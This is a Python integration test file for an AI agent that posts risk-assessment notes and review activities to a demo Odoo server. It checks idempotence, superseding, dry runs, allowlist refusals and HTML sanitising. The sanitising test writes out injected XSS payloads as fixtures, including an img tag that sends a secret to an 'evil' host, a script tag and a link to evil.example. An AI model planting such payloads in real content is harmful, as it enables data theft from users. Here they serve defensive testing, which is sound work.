"""Publishing on the demo Odoo over real HTTP: notes and review activities read back from
`mail.message` / `mail.activity`, idempotence, superseding, dry run, refusals, sanitising."""

from __future__ import annotations

import re
from datetime import date
from html.parser import HTMLParser
from typing import Any

import pytest

from agent import pipeline
from agent.pipeline import PipelineContext
from agent.publish import Publisher, PublishRefused
from agent.render import HEADER
from agent.schemas import EvidenceRef, Recommendation, ReviewerRole, RiskAssessment
from agent.tools import readers
from agent.tools.errors import ReadOnlyViolation
from agent.tools.odoo import PublishChannel
from demo_odoo.runner import DemoOdoo
from service.commands.demo import change_one_task

pytestmark = pytest.mark.integration


class _Tags(HTMLParser):
    """Real elements of a stored body (escaped text that looks like markup is not one)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.hrefs += [v or "" for k, v in attrs if k == "href"]


def parse(body: str) -> _Tags:
    parser = _Tags()
    parser.feed(body)
    return parser


def _project_ids(ctx: PipelineContext) -> list[int]:
    return [p.id for p in readers.list_active_projects(ctx.gateway)]


def _project_with_findings(ctx: PipelineContext) -> int:
    """An active project whose assessment has findings (the demo firm plants several)."""
    for pid in _project_ids(ctx):
        out = pipeline.assess_risks(pid, ctx=ctx).recommendation.output
        assert isinstance(out, RiskAssessment)
        if out.findings:
            return pid
    raise AssertionError("the demo firm should have a project with risk findings")


def _expected_reviewers(ctx: PipelineContext, out: RiskAssessment, view: Any) -> set[int]:
    """Users the approval matrix allows for the worst finding(s) of this assessment."""
    worst = max(f.severity.rank for f in out.findings)
    roles = {
        ctx.policy.approval.reviewer_for(f.category, f.severity, "project.project")
        for f in out.findings
        if f.severity.rank == worst
    }
    users: set[int] = set()
    project = view.read("project.project", out.subject.id, ["user_id"])
    for role in roles:
        if role is ReviewerRole.PM and project["user_id"]:
            users.add(project["user_id"][0])
            continue
        login = ctx.policy.approval.reviewer_logins.get(role)
        ids = view.rpc.env["res.users"].search([("login", "=", login)])
        users.update(ids)
    return users


def test_risk_assessment_is_posted_as_note_with_review_activity(
    pipeline_ctx: PipelineContext, odoo_view: Any, demo_firm: DemoOdoo
) -> None:
    pid = _project_with_findings(pipeline_ctx)
    before = odoo_view.messages("project.project", pid)

    res = pipeline.assess_risks(pid, ctx=pipeline_ctx, publish=True)

    rec = res.recommendation
    out = rec.output
    assert isinstance(out, RiskAssessment)
    assert res.status == "posted" and rec.published
    assert rec.id is not None and rec.message_id and rec.activity_id
    assert odoo_view.messages("project.project", pid) == before + 1

    msg = odoo_view.read(
        "mail.message", rec.message_id, ["body", "subtype_id", "model", "res_id", "message_type"]
    )
    assert (msg["model"], msg["res_id"]) == ("project.project", pid)
    assert msg["subtype_id"][1] == "Note"
    assert msg["message_type"] == "comment"
    body: str = msg["body"]
    assert HEADER in body  # body_is_html: the markup was stored, not escaped
    assert f'class="badge {_rag_class(out.rag.value)}">{out.rag.value.upper()}</span>' in body
    assert "<img" not in body
    hrefs = parse(body).hrefs
    assert hrefs and all(h.startswith(f"{demo_firm.url}/odoo/") for h in hrefs)
    cited = {ref.url for f in out.findings for ref in f.evidence if ref.url}
    assert cited and cited <= set(hrefs)
    assert "offline analyst" in body
    assert f"input {rec.provenance.input_hash[:12]}" in body
    assert f"recommendation #{rec.id}" in body

    act = odoo_view.read(
        "mail.activity", rec.activity_id, ["summary", "user_id", "res_model", "res_id"]
    )
    assert act["summary"] == f"Review AI recommendation #{rec.id}"
    assert (act["res_model"], act["res_id"]) == ("project.project", pid)
    assert act["user_id"][0] in _expected_reviewers(pipeline_ctx, out, odoo_view)


def _rag_class(rag: str) -> str:
    return {"green": "text-bg-success", "amber": "text-bg-warning", "red": "text-bg-danger"}[rag]


def test_same_job_twice_posts_nothing_the_second_time(
    pipeline_ctx: PipelineContext, odoo_view: Any
) -> None:
    pid = _project_ids(pipeline_ctx)[0]
    first = pipeline.assess_risks(pid, ctx=pipeline_ctx, publish=True)
    messages = odoo_view.messages("project.project", pid)
    activities = odoo_view.activities("project.project", pid)

    again = pipeline.assess_risks(pid, ctx=pipeline_ctx, publish=True)

    assert first.status == "posted"
    assert again.status == "unchanged"
    assert again.recommendation.id == first.recommendation.id
    assert odoo_view.messages("project.project", pid) == messages
    assert odoo_view.activities("project.project", pid) == activities
    assert len(pipeline_ctx.ledger.list()) == 1


def test_ticket_triage_twice_posts_nothing_the_second_time(
    pipeline_ctx: PipelineContext, odoo_view: Any
) -> None:
    tid = readers.list_open_tickets(pipeline_ctx.gateway)[0].id
    first = pipeline.triage_ticket(tid, ctx=pipeline_ctx, publish=True)
    messages = odoo_view.messages("helpdesk.ticket", tid)
    again = pipeline.triage_ticket(tid, ctx=pipeline_ctx, publish=True)
    assert (first.status, again.status) == ("posted", "unchanged")
    assert odoo_view.messages("helpdesk.ticket", tid) == messages


def test_changed_hours_supersede_exactly_that_projects_note(
    pipeline_ctx: PipelineContext, odoo_view: Any, demo_firm: DemoOdoo
) -> None:
    first = pipeline.scan_portfolio(ctx=pipeline_ctx, publish=True, include_tickets=False)
    assert not first.errors
    assert {r.status for r in first.projects} == {"posted"}
    counts = {r.res_id: odoo_view.messages("project.project", r.res_id) for r in first.projects}
    target = first.projects[-1]

    change_one_task(demo_firm, target.res_id)
    second = pipeline.scan_portfolio(ctx=pipeline_ctx, publish=True, include_tickets=False)

    status = {r.res_id: r.status for r in second.projects}
    assert status.pop(target.res_id) == "posted"
    assert set(status.values()) == {"unchanged"}
    for row in second.projects:
        grown = 1 if row.res_id == target.res_id else 0
        assert odoo_view.messages("project.project", row.res_id) == counts[row.res_id] + grown
    new_id = next(r.recommendation_id for r in second.projects if r.res_id == target.res_id)
    assert new_id is not None
    new = pipeline_ctx.ledger.get(new_id)
    old = pipeline_ctx.ledger.get(target.recommendation_id or 0)
    assert new.supersedes_id == old.id
    assert old.status.value == "superseded" and new.status.value == "proposed"
    superseded = [r for r in pipeline_ctx.ledger.list() if r.status.value == "superseded"]
    assert [r.id for r in superseded] == [old.id]
    body = odoo_view.read("mail.message", new.message_id, ["body"])["body"]
    assert f"supersedes #{old.id}" in body


@pytest.mark.parametrize("mode", ["dry_run", "not_published"])
def test_dry_run_and_no_publish_write_nothing(
    pipeline_ctx: PipelineContext, odoo_view: Any, mode: str
) -> None:
    pid = _project_ids(pipeline_ctx)[1]
    messages = odoo_view.messages("project.project", pid)
    activities = odoo_view.activities("project.project", pid)
    calls_before = dict(pipeline_ctx.gateway.stats.by_method)

    res = pipeline.assess_risks(pid, ctx=pipeline_ctx, publish=False, dry_run=mode == "dry_run")

    assert res.status == mode
    assert pipeline_ctx.ledger.list() == []
    assert res.recommendation.id is None and res.recommendation.message_id is None
    assert odoo_view.messages("project.project", pid) == messages
    assert odoo_view.activities("project.project", pid) == activities
    writes = {
        k: n
        for k, n in pipeline_ctx.gateway.stats.by_method.items()
        if k.endswith((".message_post", ".create")) and n != calls_before.get(k, 0)
    }
    assert writes == {}
    if mode == "dry_run":
        assert res.html is not None and HEADER in res.html


class RecordingChannel:
    """A channel that records what it would send."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, ...]] = []

    def post_note(self, model: str, res_id: int, html_body: str) -> int:
        self.calls.append(("post_note", model))
        return 1

    def create_activity(self, model: str, res_id: int, *args: Any) -> int:
        self.calls.append(("create_activity", model))
        return 1


@pytest.mark.parametrize("model", ["res.partner", "hr.employee", "account.analytic.line"])
def test_publisher_refuses_models_outside_the_allowlist(
    pipeline_ctx: PipelineContext, model: str
) -> None:
    rec = pipeline.assess_risks(_project_ids(pipeline_ctx)[0], ctx=pipeline_ctx).recommendation
    ref = EvidenceRef(model=model, id=1, display_name="someone")
    bad = rec.model_copy(
        update={"subject": ref, "output": rec.output.model_copy(update={"subject": ref})}
    )
    channel = RecordingChannel()
    publisher = Publisher(channel, pipeline_ctx.ledger, odoo_base_url="http://127.0.0.1:1")

    with pytest.raises(PublishRefused, match=re.escape(model)):
        publisher.publish(bad, reviewer_user_id=2)

    assert channel.calls == []
    assert pipeline_ctx.ledger.list() == []


def test_gateway_channel_refuses_other_models_and_writes_before_sending(
    pipeline_ctx: PipelineContext, odoo_view: Any
) -> None:
    gw = pipeline_ctx.gateway
    gw.connect()
    channel = gw.publish_channel()
    partner_messages = odoo_view.messages("res.partner")
    sent = gw.stats.calls

    with pytest.raises(ReadOnlyViolation, match=r"res\.partner"):
        channel.post_note("res.partner", 1, "<p>hello</p>")
    with pytest.raises(ReadOnlyViolation, match=r"hr\.employee"):
        channel.create_activity("hr.employee", 1, 2, "x", "<p>x</p>", _today())
    writes: list[tuple[str, list[Any]]] = [
        ("write", [[1], {"allocated_hours": 1.0}]),
        ("unlink", [[1]]),
        ("create", [{"name": "x"}]),
        ("message_post", [[1]]),
    ]
    for method, args in writes:
        with pytest.raises(ReadOnlyViolation):
            gw.execute("project.task", method, *args)
    with pytest.raises(ReadOnlyViolation):
        PublishChannel(gw, object())  # type: ignore[arg-type]

    assert gw.stats.calls == sent  # refused before anything left the process
    assert odoo_view.messages("res.partner") == partner_messages


def _today() -> date:
    return date.today()


def test_malicious_analyst_text_is_sanitised_in_the_posted_note(
    pipeline_ctx: PipelineContext, odoo_view: Any, demo_firm: DemoOdoo
) -> None:
    pid = _project_with_findings(pipeline_ctx)
    rec: Recommendation = pipeline.assess_risks(pid, ctx=pipeline_ctx).recommendation
    out = rec.output
    assert isinstance(out, RiskAssessment)
    evil = EvidenceRef(model="project.task", id=1, display_name="x", url="http://evil.example/x")
    poisoned = out.findings[0].model_copy(
        update={
            "title": "Late <img src=http://evil/x?d=secret> <script>alert(1)</script>",
            "explanation": 'See <a href="http://evil.example/steal">here</a> and javascript:x',
            "evidence": [*out.findings[0].evidence, evil],
        }
    )
    bad_out = out.model_copy(update={"findings": [poisoned, *out.findings[1:]]})
    bad = rec.model_copy(update={"output": bad_out})
    publisher = pipeline_ctx.publisher()

    posted = publisher.publish(bad, reviewer_user_id=None)

    assert posted.status == "posted" and posted.recommendation.message_id
    body = odoo_view.read("mail.message", posted.recommendation.message_id, ["body"])["body"]
    tags = parse(body)
    assert "img" not in tags.tags and "script" not in tags.tags
    assert "<img" not in body and "<script" not in body
    assert "&lt;img" in body  # shown as text, not markup
    assert tags.hrefs and all(h.startswith(f"{demo_firm.url}/odoo/") for h in tags.hrefs)
    assert not any("evil" in h for h in tags.hrefs)
